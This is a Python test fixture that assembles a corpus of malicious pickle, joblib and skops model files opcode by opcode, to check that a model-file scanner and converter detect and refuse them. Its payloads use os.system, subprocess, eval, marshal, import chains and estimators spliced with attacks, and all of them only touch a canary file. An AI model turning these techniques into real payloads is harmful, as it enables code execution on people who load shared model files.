"""A corpus of hostile pickle, joblib and skops files, written as raw bytes.

Contract
--------
Every attack here is assembled opcode by opcode (or, for the ones hidden in a
real estimator, by splicing opcodes into the bytes of our own pickle.dumps of
a fitted model): nothing in this module ever unpickles anything, and nothing
malicious is ever built as a Python object. Each payload, if some careless
program did load it, would create (or point at) the canary file
``CANARY`` (``/tmp/ark_canary_<random>``), so a test can prove nothing ran.

``ATTACKS``: name -> bytes. ``EXPECTED``: name -> a dangerous global (or
finding text) the scanner must name. ``write_corpus(folder)`` writes each
attack as ``<name>.pkl`` (``.joblib`` / ``.skops`` where that is what it is)
and returns the paths. Used by test_scan.py (``ark scan``) and by the convert
tests (``ark convert`` must refuse every one).
"""
import io
import json
import marshal
import os
import pickle
import secrets
import struct
import zipfile

CANARY = f"/tmp/ark_canary_{secrets.token_hex(8)}"
TOUCH = f"touch {CANARY}"

# --- opcode helpers (pickletools' names) ---------------------------------------

MARK, STOP, POP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"0", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = b"R", b"b", b")", b"}", b"]"
SETITEM, APPEND, NONE, NEWTRUE, MEMOIZE, STACK_GLOBAL = b"s", b"a", b"N", b"\x88", b"\x94", b"\x93"
OBJ, NEWOBJ = b"o", b"\x81"


def proto(n):
    return b"\x80" + bytes([n])


def glob(module, name):
    """GLOBAL: the import written as text (protocols 0-3, also accepted by 4-5)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module, name):
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text, protocol=2):
    """A str literal in the form the protocol's pickler would write it."""
    data = text.encode()
    if protocol == 0:
        return b"V" + text.encode("raw_unicode_escape") + b"\n"
    if protocol >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def bbytes(data):
    """A bytes literal (protocol 3+)."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def binint1(n):
    return b"K" + bytes([n])


def stack_global(module, name, protocol=4):
    return ustr(module, protocol) + ustr(name, protocol) + STACK_GLOBAL


def frame(body):
    """Protocol 4+ FRAME around `body`."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def call(callable_ops, *arg_ops):
    """callable(*args) via MARK ... TUPLE REDUCE."""
    return callable_ops + MARK + b"".join(arg_ops) + TUPLE + REDUCE


def p(protocol, body):
    """A whole pickle: PROTO (protocol >= 2), body, STOP."""
    head = proto(protocol) if protocol >= 2 else b""
    return head + body + STOP


# --- the attacks --------------------------------------------------------------

def _system_at(protocol):
    if protocol == 0:
        return glob("os", "system") + MARK + ustr(TOUCH, 0) + TUPLE + REDUCE + STOP
    if protocol <= 3:
        return p(protocol, call(glob("os", "system"), ustr(TOUCH, protocol)))
    body = stack_global("os", "system", protocol) + MEMOIZE + ustr(TOUCH, protocol) + MEMOIZE + TUPLE1 + REDUCE
    return proto(protocol) + frame(body + MEMOIZE) + STOP


def _nested_pickle(loader_module):
    inner = _system_at(2)
    return p(3, call(glob(loader_module, "loads"), bbytes(inner)))


def _code_bytes():
    """marshal of a code object that would create the canary (never run)."""
    return marshal.dumps(compile(f"open({CANARY!r}, 'w').close()", "<attack>", "exec"))


def _getattr(obj_ops, attribute, protocol=2):
    return call(glob("builtins", "getattr"), obj_ops, ustr(attribute, protocol))


def _import(module, protocol=2):
    return call(glob("builtins", "__import__"), ustr(module, protocol))


def _joblib_with_attack():
    """A genuine joblib file (an array wrapper with its raw bytes after BUILD),
    with os.system spliced in after the array."""
    import joblib  # noqa: PLC0415
    import numpy as np  # noqa: PLC0415

    buffer = io.BytesIO()
    joblib.dump([np.arange(4.0), "ARK_MARKER"], buffer, protocol=2)
    data = buffer.getvalue()
    marker = ustr("ARK_MARKER", 2)
    assert data.count(marker) == 1
    return data.replace(marker, call(glob("posix", "system"), ustr(TOUCH)))


def _without_frames(data):
    """The same pickle without its FRAME opcodes (optional in protocol 4+), so
    opcodes can be spliced in. pickletools.genops only parses, never loads."""
    import pickletools  # noqa: PLC0415

    frames = [pos for op, _, pos in pickletools.genops(data) if op.name == "FRAME"]
    for pos in reversed(frames):
        data = data[:pos] + data[pos + 9:]
    return data


def _fitted_logreg():
    import numpy as np  # noqa: PLC0415
    from sklearn.linear_model import LogisticRegression  # noqa: PLC0415

    return LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])


def _estimator_with_attack(protocol):
    """A valid LogisticRegression pickle whose state dict holds a REDUCE
    subprocess.check_output: the model looks fine, one attribute is a shell."""
    model = _fitted_logreg()
    model.ark_note = "ARK_MARKER"
    data = _without_frames(pickle.dumps(model, protocol=protocol))
    marker = ustr("ARK_MARKER", protocol)
    assert data.count(marker) == 1, "marker not found once"
    attack = call(glob("subprocess", "check_output"), MARK + ustr("touch", protocol) + ustr(CANARY, protocol)
                  + b"l")
    return data.replace(marker, attack)


def _skops_zip(schema):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps({**schema, "protocol": 2}))
    return buffer.getvalue()


def _build():
    a = {}
    e = {}
    for protocol in range(6):
        a[f"os-system-p{protocol}"] = _system_at(protocol)
        e[f"os-system-p{protocol}"] = "os.system"
    a["posix-system"] = p(2, call(glob("posix", "system"), ustr(TOUCH)))
    e["posix-system"] = "posix.system"
    a["nt-system"] = p(2, call(glob("nt", "system"), ustr(TOUCH)))
    e["nt-system"] = "nt.system"
    a["subprocess-popen"] = p(2, call(glob("subprocess", "Popen"),
                                      MARK + ustr("touch") + ustr(CANARY) + b"l"))
    e["subprocess-popen"] = "subprocess.Popen"
    a["subprocess-check-output"] = p(2, call(glob("subprocess", "check_output"),
                                             MARK + ustr("sh") + ustr("-c") + ustr(TOUCH) + b"l"))
    e["subprocess-check-output"] = "subprocess.check_output"
    a["builtins-eval"] = p(2, call(glob("builtins", "eval"),
                                   ustr(f"__import__('os').system({TOUCH!r})")))
    e["builtins-eval"] = "builtins.eval"
    a["builtins-exec"] = p(2, call(glob("builtins", "exec"), ustr(f"open({CANARY!r}, 'w').close()")))
    e["builtins-exec"] = "builtins.exec"
    a["builtins-compile-eval"] = p(2, call(glob("builtins", "eval"), call(
        glob("builtins", "compile"), ustr(f"open({CANARY!r}, 'w')"), ustr("<x>"), ustr("eval"))))
    e["builtins-compile-eval"] = "builtins.compile"
    a["builtins-open"] = p(2, call(glob("builtins", "open"), ustr(CANARY), ustr("w")))
    e["builtins-open"] = "builtins.open"
    a["py2-builtin-eval"] = p(2, call(glob("__builtin__", "eval"), ustr(f"__import__('os').system({TOUCH!r})")))
    e["py2-builtin-eval"] = "builtins.eval"  # pickle (and the reader) map Python 2 names
    a["py2-builtin-import-p0"] = (glob("__builtin__", "__import__") + MARK + ustr("os", 0) + TUPLE + REDUCE
                                  + STOP)
    e["py2-builtin-import-p0"] = "builtins.__import__"
    a["getattr-import-chain"] = p(2, call(_getattr(_import("os"), "system"), ustr(TOUCH)))
    e["getattr-import-chain"] = "builtins.getattr"
    a["inst-opcode"] = MARK + ustr(TOUCH, 0) + inst("os", "system") + STOP
    e["inst-opcode"] = "os.system"
    a["obj-opcode"] = MARK + glob("os", "system") + ustr(TOUCH, 1) + OBJ + STOP
    e["obj-opcode"] = "os.system"
    # Names memoised, then fetched back for STACK_GLOBAL.
    a["stack-global-memoised"] = p(4, ustr("os", 4) + MEMOIZE + ustr("system", 4) + MEMOIZE + POP + POP
                                   + b"h\x00" + b"h\x01" + STACK_GLOBAL + ustr(TOUCH, 4) + TUPLE1 + REDUCE)
    e["stack-global-memoised"] = "os.system"
    # The module name is computed by a call of a harmless-looking builtin.
    a["stack-global-computed"] = p(4, call(glob("builtins", "str"), ustr("os", 4)) + ustr("system", 4)
                                   + STACK_GLOBAL + ustr(TOUCH, 4) + TUPLE1 + REDUCE)
    e["stack-global-computed"] = "computed"
    a["nested-pickle-loads"] = _nested_pickle("pickle")
    e["nested-pickle-loads"] = "pickle.loads"
    a["nested-_pickle-loads"] = _nested_pickle("_pickle")
    e["nested-_pickle-loads"] = "_pickle.loads"
    a["pkgutil-resolve-name"] = p(2, call(call(glob("pkgutil", "resolve_name"), ustr("os:system")), ustr(TOUCH)))
    e["pkgutil-resolve-name"] = "pkgutil.resolve_name"
    a["importlib-import-module"] = p(2, call(_getattr(call(glob("importlib", "import_module"), ustr("os")),
                                                      "system"), ustr(TOUCH)))
    e["importlib-import-module"] = "importlib.import_module"
    a["runpy-run-path"] = p(2, call(glob("runpy", "run_path"), ustr(CANARY + ".py")))
    e["runpy-run-path"] = "runpy.run_path"
    a["socket-create-connection"] = p(2, call(glob("socket", "create_connection"),
                                              MARK + ustr("127.0.0.1") + binint1(9) + TUPLE))
    e["socket-create-connection"] = "socket.create_connection"
    a["ctypes-cdll"] = p(2, call(_getattr(call(glob("ctypes", "CDLL"), ustr("libc.so.6")), "system"),
                                 ustr(TOUCH)))
    e["ctypes-cdll"] = "ctypes.CDLL"
    a["shutil-rmtree"] = p(2, call(glob("shutil", "rmtree"), ustr(CANARY + ".d")))
    e["shutil-rmtree"] = "shutil.rmtree"
    a["os-remove"] = p(2, call(glob("os", "remove"), ustr(CANARY)))
    e["os-remove"] = "os.remove"
    a["marshal-function"] = p(3, call(call(glob("types", "FunctionType"),
                                           call(glob("marshal", "loads"), bbytes(_code_bytes())),
                                           EMPTY_DICT), ))
    e["marshal-function"] = "marshal.loads"
    a["operator-attrgetter"] = p(2, call(call(call(glob("operator", "attrgetter"), ustr("system")),
                                              _import("os")), ustr(TOUCH)))
    e["operator-attrgetter"] = "operator.attrgetter"
    a["operator-methodcaller"] = p(2, call(call(glob("operator", "methodcaller"), ustr("system"), ustr(TOUCH)),
                                           _import("os")))
    e["operator-methodcaller"] = "operator.methodcaller"
    a["numpy-load-allow-pickle"] = p(2, call(glob("numpy", "load"), ustr(CANARY + ".npy"), NONE, NEWTRUE))
    e["numpy-load-allow-pickle"] = "numpy.load"
    a["numpy-ufunc-reconstruct"] = p(2, call(call(glob("numpy.core", "_ufunc_reconstruct"), ustr("os"),
                                                  ustr("system")), ustr(TOUCH)))
    e["numpy-ufunc-reconstruct"] = "numpy.core._ufunc_reconstruct"
    a["sklearn-attribute-walk"] = p(4, stack_global("sklearn.base", "os.system") + ustr(TOUCH, 4) + TUPLE1
                                    + REDUCE)
    e["sklearn-attribute-walk"] = "sklearn.base.os.system"
    a["sklearn-dunder-globals"] = p(4, stack_global("sklearn.base", "BaseEstimator.__init__.__globals__"))
    e["sklearn-dunder-globals"] = "sklearn.base.BaseEstimator.__init__.__globals__"
    a["reconstructor-popen-base"] = p(2, call(glob("copyreg", "_reconstructor"), glob("builtins", "object"),
                                              glob("subprocess", "Popen"),
                                              MARK + ustr("touch") + ustr(CANARY) + b"l"))
    e["reconstructor-popen-base"] = "subprocess.Popen"
    a["partial-os-system"] = p(2, call(call(glob("functools", "partial"), glob("os", "system"), ustr(TOUCH))))
    e["partial-os-system"] = "os.system"
    a["webbrowser-open"] = p(2, call(glob("webbrowser", "open"), ustr("file://" + CANARY)))
    e["webbrowser-open"] = "webbrowser.open"
    a["ext1-registry-code"] = p(2, b"\x82\x01" + MARK + ustr(TOUCH) + TUPLE + REDUCE)
    e["ext1-registry-code"] = "EXT1"
    a["persistent-id"] = p(2, MARK + ustr("os") + ustr("system") + TUPLE + b"Q" + MARK + ustr(TOUCH) + TUPLE
                           + REDUCE)
    e["persistent-id"] = "persistent id"
    a["persid-text"] = b"Pos.system\n" + MARK + ustr(TOUCH, 0) + TUPLE + REDUCE + STOP
    e["persid-text"] = "persistent id"
    a["joblib-array-then-system"] = _joblib_with_attack()
    e["joblib-array-then-system"] = "posix.system"
    for protocol in (2, 4):
        a[f"logreg-state-check-output-p{protocol}"] = _estimator_with_attack(protocol)
        e[f"logreg-state-check-output-p{protocol}"] = "subprocess.check_output"
    # A valid model, then a second pickle after its STOP: pickle.load reads
    # only the first; a program loading in a loop runs the second.
    a["second-pickle-after-stop"] = pickle.dumps(_fitted_logreg(), protocol=4) + _system_at(2)
    e["second-pickle-after-stop"] = "os.system"
    a["skops-os-system"] = _skops_zip({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode",
                                       "__id__": 1})
    e["skops-os-system"] = "os.system"
    a["skops-eval-function"] = _skops_zip({
        "__class__": "FunctionTransformer", "__module__": "sklearn.preprocessing._function_transformer",
        "__loader__": "ObjectNode", "__id__": 1,
        "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 2,
                    "content": {"func": {"__class__": "function", "__module__": "builtins",
                                         "__loader__": "FunctionNode", "__id__": 3,
                                         "content": {"module_path": "builtins", "function": "eval"}}}}})
    e["skops-eval-function"] = "builtins.eval"
    return a, e


ATTACKS, EXPECTED = _build()


def extension(name):
    if name.startswith("skops-"):
        return ".skops"
    if name.startswith("joblib-"):
        return ".joblib"
    return ".pkl"


def write_corpus(folder):
    """Writes every attack into `folder` (created if needed); returns {name: path}."""
    os.makedirs(folder, exist_ok=True)
    paths = {}
    for name, data in ATTACKS.items():
        path = os.path.join(folder, name + extension(name))
        with open(path, "wb") as f:
            f.write(data)
        paths[name] = path
    return paths
